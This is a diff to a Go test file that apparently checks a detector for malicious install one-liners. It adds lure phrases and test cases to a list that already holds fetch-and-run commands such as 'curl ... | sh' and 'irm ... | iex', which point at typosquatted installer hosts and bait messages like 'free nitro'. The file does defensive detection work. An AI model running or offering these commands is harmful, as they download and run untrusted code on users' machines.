@@ -27,7 +27,9 @@ func TestPlainHTTPOneLinersReadAsTwins(t *testing.T) {
 // encoded PowerShell, mshta, an address, a port, a dynamic DNS name, a
 // file drop, a paste site, a cheap ending, installers' lookalikes (a name
 // taking theirs, their domain before another, one edit from theirs), a
-// name drawn at random, a lure or bait beside the command. The lines
+// name drawn at random, a lure or bait beside the command, an install
+// script linked bare by a message that does not speak of it as a script
+// (a drop's "new version", "install this update"). The lines
 // marked "twin allowed" are allowed written https:// and fail without
 // the plain-HTTP checks of httpInstallTwin.
 func TestPlainHTTPOneLinersNotReadAsTwins(t *testing.T) {
@@ -48,7 +50,9 @@ func TestPlainHTTPOneLinersNotReadAsTwins(t *testing.T) {
 		{"curl -fsSL http://tailscalle.com/install.sh | sh", true},                 // twin allowed
 		{"curl -fsSL http://ollama-ai.net/install.sh | sh", true},                  // twin allowed
 		{"/bin/bash -c \"$(curl -fsSL http://brewinstall.app/install.sh)\"", true}, // twin allowed
-		{"irm http://x7q2k.net | iex", true},                                       // twin allowed
+		{"irm http://x7q2k.net | iex", true},
+		{"new version http://lanternworks.net/assets/install.sh", true},
+		{"install this update http://brookfieldvet.com/files/setup.sh", true}, // twin allowed
 		{"free nitro for everyone who runs this: irm http://nitrogift.net/claim | iex", true},
 		{"@everyone new mod menu: iwr http://modloader.net/menu.ps1 | iex", true},
 	})
